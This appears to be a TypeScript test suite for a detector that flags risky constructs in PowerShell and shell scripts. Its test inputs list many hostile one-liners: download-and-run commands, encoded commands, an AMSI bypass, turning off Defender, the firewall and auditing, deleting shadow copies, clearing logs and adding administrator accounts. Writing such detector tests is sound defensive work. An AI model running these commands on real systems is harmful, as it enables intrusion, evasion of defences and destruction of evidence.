import { readFileSync } from "node:fs";
import { join } from "node:path";

import { riskyConstructs } from "../../../policy/claims";
import { riskyConstructsBy } from "../../../policy/claims/riskyConstructs";
import { readConfiguration } from "../../../policy/configuration";
import { constructs } from "../../../policy/risks/constructs";
import { wildcard } from "../../../policy/risks/ownConstruct";
import { fileWith, found, messages } from "../checked";

const root = join(__dirname, "..", "..", "..");
const powershell = (content: string) => fileWith({ fileName: "a.ps1", content });
const shell = (content: string) => fileWith({ fileName: "a.sh", content });

/** The ids of what is found. */
const ids = async (file: ReturnType<typeof fileWith>, configuration = {}) => [
    ...new Set(
        (await messages(riskyConstructs, file, configuration)).map(
            (message) => /\(([a-z-]+)\):/.exec(message)?.[1] ?? message,
        ),
    ),
];

const inPowerShell: Readonly<Record<string, readonly string[]>> = {
    "download-and-execute": [
        "iex (iwr -Uri https://example.com/a.ps1 -UseBasicParsing).Content",
        "Invoke-Expression (Invoke-WebRequest https://example.com)",
        "irm https://example.com | iex",
        "IRM https://example.com | ForEach-Object { I`EX $_ }",
        "& 'iex' ((New-Object Net.WebClient).DownloadString('https://example.com'))",
        "& ('i' + 'ex') (curl https://example.com)",
        "$c = (New-Object System.Net.WebClient).DownloadString($u)\nInvoke-Expression $c",
        "$script:c = irm $u\nif ($c) { iex -Command $C }",
        '$c = iwr $u\niex "$($c.Content)"',
        "[scriptblock]::Create((irm $u)).Invoke()",
        "$c = irm $u; & ([ScriptBlock]::Create($c))",
        'powershell -Command "iex (iwr https://example.com)"',
        "powershell -c (irm $u)",
        "irm $u | powershell -NoProfile",
        "curl.exe -s $u | pwsh",
        "[Reflection.Assembly]::Load((iwr $u).Content)",
        "$b = (New-Object Net.WebClient).DownloadData($u)\n[System.Reflection.Assembly]::Load($b)",
        "mshta https://example.com/a.hta",
        "mshta.exe vbscript:Close(Execute('x'))",
        "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
        "msiexec /i https://example.com/a.msi /qn",
        "msiexec.exe /q /ihttps://example.com/a.msi",
        "Start-Process msiexec.exe -ArgumentList '/i', 'https://example.com/a.msi' -Wait",
        "wmic os get /format:https://example.com/a.xsl",
        "Invoke-WebRequest -Uri $u -OutFile C:\\a.exe; & C:\\a.exe /S",
        "iwr $u -OutFile $out\n& $out",
        'iwr $u -OutFile "$env:TEMP\\a.exe"\nStart-Process -FilePath "$env:TEMP\\A.exe" -Wait',
        "iwr $u -OutFile:a.ps1; . .\\a.ps1",
        "Set-Location C:\\x; irm $u -OutFile C:\\x\\a.exe; .\\a.exe",
        "curl.exe -o a.exe $u; cmd /c a.exe /S",
        "Start-BitsTransfer $u $file; Start-Process $file",
        "Start-BitsTransfer -Source $u -Destination a.msi; msiexec /i a.msi /qn",
        "(New-Object Net.WebClient).DownloadFile($u, $f); powershell -File $f",
        "$c.DownloadFile($u, 'C:\\a.exe'); [Diagnostics.Process]::Start('C:\\a.exe')",
        "certutil -urlcache -f $u a.exe; .\\a.exe",
        "bitsadmin /transfer n $u C:\\a.dll; rundll32 C:\\a.dll,Main",
        'powershell "iex (irm $u)"',
        'powershell -Command "iex (irm $u)"',
        "Start-Process powershell -ArgumentList '-NoProfile -Command \"iex (irm x)\"'",
        `powershell -Command '${"Get-Date; ".repeat(60)} iex (irm x)'`,
    ],
    "encoded-command": [
        "powershell -EncodedCommand SQBFAFgA",
        "powershell.exe -NoP -w hidden -e SQBFAFgA",
        '& "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -eNc SQBFAFgA',
        "pwsh -ec SQBFAFgA",
        "cmd /c powershell -enc SQBFAFgA",
        'cmd /c "powershell -enc SQBFAFgA"',
        'cmd.exe /s /c "powershell -nop -enc $x"',
        'cmd /c "cmd /c ""powershell -enc SQBFAFgA"""',
        "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
        "$b = [Convert]::FromBase64String($t); [AppDomain]::CurrentDomain.Load($b)",
        "Start-Process powershell -ArgumentList '-nop -enc SQBFAFgA'",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
        "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); iex $t",
    ],
    "execution-policy": [
        "Set-ExecutionPolicy Bypass -Scope Process -Force",
        "set-executionpolicy -ExecutionPolicy unrestricted",
        "powershell -ExecutionPolicy Bypass -File a.ps1",
        "powershell.exe -ep bypass -f a.ps1",
    ],
    "amsi-bypass": [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "$x::GetProcAddress($m, 'Amsi' + 'ScanBuffer')",
    ],
    "no-certificate-check": [
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
        "iwr $u -SkipCertificateCheck",
        "[Net.ServicePointManager]::CertificatePolicy = New-Object TrustAll",
        "[System.Net.ServicePointManager]::CertificatePolicy = [TrustAll]::new()",
        "$PSDefaultParameterValues['*:SkipCertificateCheck'] = $true",
        "New-PSSessionOption -SkipCACheck -SkipCNCheck",
        "git config --global http.sslVerify false",
        "irm -SkipCert $u",
        "curl.exe -sk $u",
        "$h.ServerCertificateCustomValidationCallback = [System.Net.Http.HttpClientHandler]::DangerousAcceptAnyServerCertificateValidator",
    ],
    "defender-exclusion": [
        "Add-MpPreference -ExclusionPath C:\\Temp",
        "Set-MpPreference -ExclusionProc`ess 'a.exe'",
        "reg add 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths' /v C:\\ /d 0",
    ],
    "defender-off": [
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableIOAVProtection:1",
        "Set-MpPreference -MAPSReporting 0",
        "Stop-Service WinDefend",
        "sc.exe config WinDefend start= disabled",
        "net stop Sense",
        "New-ItemProperty -Path HKLM:\\a -Name DisableAntiSpyware -Value 1",
        "Uninstall-WindowsFeature Windows-Defender",
    ],
    "firewall-off": [
        "netsh advfirewall set allprofiles state off",
        "netsh firewall set opmode disable",
        "Set-NetFirewallProfile -Profile Domain,Public -Enabled False",
        "Stop-Service -Name MpsSvc",
    ],
    "audit-off": [
        "auditpol /clear /y",
        "auditpol /set /category:* /success:disable",
        "wevtutil sl Security /e:false",
        "Set-Service EventLog -StartupType Disabled",
    ],
    "shadow-copies-deleted": [
        "vssadmin delete shadows /all /quiet",
        "vssadmin.exe Resize ShadowStorage /for=c: /on=c: /maxsize=401MB",
        "wmic shadowcopy delete",
        "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
        "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
        "(gwmi Win32_ShadowCopy).Delete()",
        "wbadmin delete catalog -quiet",
        "bcdedit /set '{default}' recoveryenabled No",
    ],
    "log-clearing": [
        "wevtutil cl Security",
        "wevtutil.exe clear-log System",
        "Clear-EventLog -LogName Application",
        "Remove-EventLog -LogName x",
        "Get-WinEvent -ListLog * | ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }",
        "Remove-Item C:\\Windows\\System32\\winevt\\Logs\\Security.evtx",
    ],
    "new-administrator": [
        "Add-LocalGroupMember -Group Administrators -Member eve",
        "Add-LocalGroupMember -SID S-1-5-32-544 -Member eve",
        "net localgroup administrators eve /add",
    ],
};

const inShell: Readonly<Record<string, readonly string[]>> = {
    "download-and-execute": [
        "curl -fsSL https://example.com | sh",
        "wget -O- https://example.com | sudo bash -s -- -y",
        "curl $u | sudo -E -u root /bin/bash -",
        "curl $u | tee a | python3",
        'bash -c "$(curl -fsSL https://example.com)"',
        "#!/bin/bash\nbash <(curl -s https://example.com)",
        "#!/bin/bash\nsource <(wget -qO- https://example.com)",
        '#!/bin/bash\nsh <<< "$(curl $u)"',
        'eval "`curl $u`"',
        'x=$(curl $u)\neval "$x"',
        'x="$(wget -O- $u)"; echo "$x" | bash',
        "bash -c 'curl https://example.com | sh'",
        "(curl $u; echo) | { sh; }",
        "'curl' $u | ba\\sh",
        'python3 -c "$(curl -fsSL https://example.com)"',
        'perl -e "$(wget -qO- $u)"',
        'x=$(curl $u); python -c "$x"',
        "python3 <(curl $u)",
        "curl -o x https://example.com; bash x",
        "curl -fsSLo /tmp/x.sh $u && chmod +x /tmp/x.sh && /tmp/x.sh --all",
        "curl -O https://example.com/x.sh?v=1; sudo sh ./x.sh",
        'curl $u --output "$d/x"; chmod 755 "$d/x"; sudo "$d/x"',
        "curl $u > x; . ./x",
        "curl $u | tee x > /dev/null; sh x",
        'wget -qO "$out" $u; "$out"',
        "wget https://example.com/x.py; python3 x.py",
        "cd /tmp; wget -q -O /tmp/a.deb $u; dpkg -i a.deb",
        "bash <<EOF\ncurl $u | sh\nEOF",
        "sudo bash -s <<'EOF'\ncurl x | sh\nEOF",
        "cat <<EOF | bash\ncurl x | sh\nEOF",
        `bash -s -- a <<-EOF >log\n\t${"id\n\t".repeat(200)}curl x | sh\n\tEOF`,
        "bash <<< 'curl x | sh'",
        'bash -c "curl $u | sh"',
        "su - ann -c 'curl x | sh'",
        "trap 'curl x | sh' EXIT",
        `bash -c '${"id; ".repeat(150)} curl x | sh'`,
    ],
    "encoded-command": [
        "echo aWQK | base64 -d | sh",
        'eval "$(echo aWQK | base64 --decode)"',
        'x=$(base64 -d a); bash -c "$x"',
        "pwsh -EncodedCommand SQBFAFgA",
    ],
    "no-certificate-check": [
        "curl -k https://example.com",
        "curl -fsSLk https://example.com",
        "sudo curl --insecure https://example.com",
        "wget --no-check-certificate https://example.com",
        "git -c http.sslVerify=false clone x",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
        "GIT_SSL_NO_VERIFY=1 git pull",
        "git config --global http.sslVerify false",
        "npm config set strict-ssl false",
        "scp -o StrictHostKeyChecking=no a b:",
    ],
    "defender-exclusion": ["mdatp exclusion folder add --path /tmp"],
    "defender-off": [
        "mdatp config real-time-protection --value disabled",
        "systemctl stop mdatp.service",
        "sudo launchctl unload com.microsoft.wdav.daemon",
    ],
    "firewall-off": [
        "ufw disable",
        "iptables -F",
        "iptables -P INPUT ACCEPT",
        "nft flush ruleset",
        "systemctl disable --now firewalld",
        "pfctl -d",
    ],
    "audit-off": ["auditctl -e 0", "auditctl -D", "service auditd stop", "systemctl mask rsyslog"],
    "access-control-off": ["setenforce 0", "sudo setenforce Permissive", "aa-teardown"],
    "log-clearing": [
        "history -c",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "HISTSIZE=0",
        "> /var/log/auth.log",
        ": > /var/log/wtmp",
        "cat /dev/null > /var/log/secure",
        "cp /dev/null /var/log/lastlog",
        "rm -rf /var/log/audit",
        "shred -u ~/.bash_history /home/a/.bash_history",
        "truncate -s 0 /var/log/syslog",
        "ln -sf /dev/null /root/.bash_history",
        "journalctl --rotate --vacuum-time=1s",
        "find /var/log -delete",
        "find /var/log -name '*.gz' -type f -delete",
        "sudo find /var/log/ -type f -exec rm -f {} +",
    ],
    "new-administrator": [
        "usermod -aG sudo eve",
        "useradd -m -G adm,wheel eve",
        "adduser eve sudo",
        "useradd -o -u 0 eve",
        "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "echo eve | sudo tee /etc/sudoers.d/eve",
        "dseditgroup -o edit -a eve -t user admin",
    ],
};

const cases = (all: typeof inShell) =>
    Object.entries(all).flatMap(([id, texts]) => texts.map((text) => [id, text] as const));

describe("mde-risky-constructs", () => {
    it.each(cases(inPowerShell))("finds %s in PowerShell: %s", async (id, text) => {
        expect(await ids(powershell(text))).toContain(id);
    });

    it.each(cases(inShell))("finds %s in a shell script: %s", async (id, text) => {
        expect(await ids(shell(text))).toContain(id);
    });

    it("has a case of each construct in each language, and finds nothing else by name", () => {
        const of = (language: "powershell" | "shell") =>
            constructs.flatMap(({ id, finds }) => (finds[language] === undefined ? [] : id));
        expect(Object.keys(inPowerShell).sort()).toEqual(of("powershell").sort());
        expect(Object.keys(inShell).sort()).toEqual(of("shell").sort());
    });

    it("has a line on its page for each, as it is told", () => {
        const page = readFileSync(
            join(root, "docs", "policies", "mde-risky-constructs.md"),
            "utf8",
        );
        const [, list] = /## What is looked for\n\n([^]*?)\n\n/.exec(page)!;
        const lines = list!
            .trim()
            .split(/\n(?=- )/)
            .map((line) => line.replace(/\s+/g, " ").replace(/ \([^)]*\):/, ":"));
        expect(lines).toEqual(
            constructs.map(
                ({ id, what, why, instead }) => `- \`${id}\`: ${what}: ${why}. ${instead}`,
            ),
        );
    });

    it.each([
        "# iex (iwr https://example.com)",
        "<#\nSet-MpPreference -DisableRealtimeMonitoring $true\n#>",
        "Write-Output 'iex (iwr https://example.com)'",
        '"wevtutil cl Security"',
        "@'\nvssadmin delete shadows\n'@",
        "$page = iwr https://example.com; $other = 1; iex $other",
        "iwr https://example.com | Out-File a.txt",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
        "Get-MpPreference | Select-Object ExclusionPath",
        "powershell -ExecutionPolicy RemoteSigned -File a.ps1",
        "[Convert]::FromBase64String($x)",
        "Get-Service WinDefend, MpsSvc",
        "wevtutil qe Security /c:5",
        "Write-Output AmsiUtils",
        "vssadmin list shadows",
        "Get-CimInstance Win32_ShadowCopy | Select-Object ID",
        "Get-LocalGroupMember Administrators",
        "netsh advfirewall show allprofiles state",
        "auditpol /get /category:*",
        "Get-WinEvent Security | Where-Object { $_.Message -like '*iex*' }",
        "iwr $u -OutFile $out; Get-FileHash $out; Expand-Archive $out",
        "& C:\\a.exe; iwr $u -OutFile C:\\a.exe",
        "iwr $u -OutFile a.json; Start-Process b.exe -ArgumentList '/S'",
        "[Reflection.Assembly]::Load('System.Web')",
        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
        "msiexec /i C:\\a.msi /qn",
        "regsvr32 /s a.dll",
        "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
        'cmd /c "dir C:\\"',
        "powershell -File a.ps1",
    ])("lets PowerShell pass: %s", async (text) => {
        expect(await ids(powershell(text))).toEqual([]);
    });

    it.each([
        "# curl https://example.com | sh",
        "echo 'curl https://example.com | sh'",
        "cat <<'END'\ncurl x | sh\nEND",
        "curl https://example.com | python3 -m json.tool",
        "curl -okey https://example.com",
        "curl -H 'k: v' https://example.com --output k",
        "curl https://example.com | grep sh",
        'x=$(curl $u); echo "$x"',
        "base64 -d a > b",
        "(curl -o a https://example.com; sh) | cat",
        "echo a >> /var/log/own.log",
        "tail -n 5 /var/log/auth.log > /tmp/a",
        "cp /var/log/auth.log /tmp",
        "history 10",
        "iptables -L -n",
        "systemctl status auditd mdatp",
        "getenforce",
        "id -Gn root",
        "useradd -r -s /bin/false collector",
        'bash collect.sh "$(curl https://example.com/version)"',
        "curl -o a.json https://example.com; python3 parse.py a.json; jq . a.json",
        "wget https://example.com/a.tar.gz && tar xf a.tar.gz",
        "curl -o /dev/null https://example.com; id > /dev/null",
        "./x; curl -o x https://example.com",
        "python3 -c 'print(1)'; curl x",
        "find /var/log -name '*.log' -newer a -print",
        "find /tmp/x -delete",
        "cat <<EOF > a\ncurl x | sh\nEOF",
        "bash a.sh <<EOF\ncurl x | sh\nEOF",
        "python3 <<EOF\nprint(1)\nEOF",
        "trap - EXIT; trap cleanup EXIT",
    ])("lets a shell script pass: %s", async (text) => {
        expect(await ids(shell(text))).toEqual([]);
    });

    it("says where, why, and what to do instead", async () => {
        expect(await found(riskyConstructs, shell("id\n  sudo history -c\n"))).toEqual([
            {
                message:
                    "clears logs or the history of a shell (log-clearing): they are the evidence that the investigation is for",
                mend: "Copy what you need and leave them; what fills a disk is rotated by the machine itself.",
                line: 2,
                column: 3,
            },
        ]);
    });

    it("tells the first places of one construct, and how many there are", async () => {
        const all = await found(riskyConstructs, shell("history -c\n".repeat(9)));
        expect(all.map(({ line }) => line)).toEqual([1, 2, 3, 4, 5]);
        expect(all.at(-1)!.message).toMatch(/; there are 4 more places like this$/);
        expect(await found(riskyConstructs, shell("history -c\n".repeat(5)))).toHaveLength(5);
    });

    it("finds what stands before something that cannot be read, and says that it cannot", async () => {
        const all = await messages(riskyConstructs, powershell("wevtutil cl Security\nfoo )\n"));
        expect(all).toHaveLength(2);
        expect(all.join()).toMatch(/log-clearing.*looked through completely/s);
    });

    it.each([
        ["shell", "bash -c 'id'\n".repeat(101), 101, "comes after 100 others"],
        [
            "shell",
            `id\n${["id", ...Array<number>(4).fill(0)].reduce<string>((text) => `eval ${JSON.stringify(text)}`, "id")}`,
            2,
            "lies in the code of 3 others",
        ],
        ["shell", 'pwsh -Command "Get-Date"', 1, "is of another language than the script"],
        ["powershell", "wsl; bash -c 'id'", 1, "is of another language than the script"],
        [
            "shell",
            `bash -c "${"id; ".repeat(150)} $x"`,
            1,
            "has variables in it and goes on after 400 characters",
        ],
    ] as const)("says that code in %s was not looked at: %.20s", async (of, text, line, why) => {
        const file = of === "shell" ? shell(text) : powershell(text);
        expect(await found(riskyConstructs, file)).toMatchObject([
            {
                message: `was not looked through completely for risky constructs: the code that a command is given as a text here ${why}`,
                line,
            },
        ]);
    });

    it("says nothing of code that it has looked at", async () => {
        expect(await found(riskyConstructs, shell("bash -c 'id'\n".repeat(100)))).toEqual([]);
        expect(await found(riskyConstructs, shell(`bash -c '${"id; ".repeat(150)}'`))).toEqual([]);
    });

    it.each([
        ["a.sh", Buffer.from("echo\0"), "it has a NUL character"],
        ["a.ps1", Buffer.alloc(20 * 2 ** 20, "a\n"), "it has 20,971,520 characters"],
        ["a.ps1", Buffer.from([0xe9, 0x0a]), "it is neither UTF-8 nor UTF-16"],
    ])("says that %s was not read", async (fileName, content, why) => {
        expect(await messages(riskyConstructs, fileWith({ fileName, content }))).toEqual([
            expect.stringContaining(`was not looked through for risky constructs: ${why}`),
        ]);
    });

    it("says that it was not read when nothing can read it", async () => {
        const claim = riskyConstructsBy(() =>
            Promise.resolve({ unread: "makes the grammar fail (x)" }),
        );
        expect(await messages(claim, powershell("a"))).toEqual([
            "was not looked through for risky constructs: it makes the grammar fail (x)",
        ]);
    });

    it("looks at no other files", async () => {
        const content = "curl x | sh";
        expect(await found(riskyConstructs, fileWith({ fileName: "a.py", content }))).toEqual([]);
        expect(
            await ids(fileWith({ fileName: "a", content: `#!/bin/sh\n${content}` })),
        ).toHaveLength(1);
        expect(await found(riskyConstructs, fileWith({ fileName: "a.ps1", content: "" }))).toEqual(
            [],
        );
    });

    it("does not look for what is disabled", async () => {
        const disable = ["log-clearing"];
        expect(await ids(shell("history -c; ufw disable"), { disable })).toEqual(["firewall-off"]);
    });

    it.each([
        ["psexec", [], "psexec -s a", true],
        ["PSEXEC*", [], "& .\\PsExec64.exe a", true],
        [["a", "psexec"], ["-s", "\\\\*"], "psexec \\\\host -s a", true],
        ["psexec", ["-s"], "psexec -i a", false],
        ["psexec", [], "# psexec", false],
    ])("finds a construct of one's own: %j %j in %s", async (command, args, text, isThere) => {
        const add = [{ id: "remote-run", command, arguments: args, what: "runs elsewhere" }];
        expect(await ids(powershell(text), { add })).toEqual(isThere ? ["remote-run"] : []);
        const only = [{ ...add[0]!, language: "shell" }];
        expect(await ids(powershell(text), { add: only })).toEqual([]);
    });

    it.each([
        [
            { disable: ["log-clear"] },
            "disable[0] is not right: must be one of download-and-execute",
        ],
        [{ add: [{ id: "a", what: "b" }] }, "add[0].command is not right"],
        [
            { add: [{ id: "A b", command: "c", what: "d" }] },
            "add[0].id is not right: must be lower-case",
        ],
        [
            { add: [{ id: "log-clearing", command: "c", what: "d" }] },
            "add[0].id is not right: is the id",
        ],
        [{ add: [{ id: "a", command: "c", what: "d", args: [] }] }, "there is no key add[0].args"],
        [{ adds: [] }, "there is no key adds, did you mean add?"],
    ])("is not configured by %j", (configuration, problem) => {
        expect(readConfiguration(riskyConstructs, configuration)).toEqual({
            problems: [expect.stringContaining(problem)],
        });
    });

    it("is not kept busy by a command of very many words", async () => {
        const many = `curl ${"-O http://a ".repeat(20_000)}; ./a`;
        expect(await ids(shell(many))).toEqual(["download-and-execute"]);
    });

    it("looks at pipelines that lie in each other", async () => {
        const deep = "curl a | (".repeat(20_000) + "sh" + ")".repeat(20_000);
        expect(await ids(shell(deep))).toEqual(expect.arrayContaining(["download-and-execute"]));
    });
});

describe("wildcard", () => {
    it.each([
        ["a*c", "abc", true],
        ["a*c", "ac", true],
        ["a*a", "a", false],
        ["*b*", "abc", true],
        ["*", "", true],
        ["a", "ab", false],
        ["a.c", "abc", false],
        ["*x*y*", "ayx", false],
    ])("%s and %s: %s", (pattern, text, is) => {
        expect(wildcard(pattern, false)(text)).toBe(is);
    });

    it("takes linear time", () => {
        expect(wildcard("*a".repeat(1_000) + "b", false)("a".repeat(1_000_000))).toBe(false);
    });
});
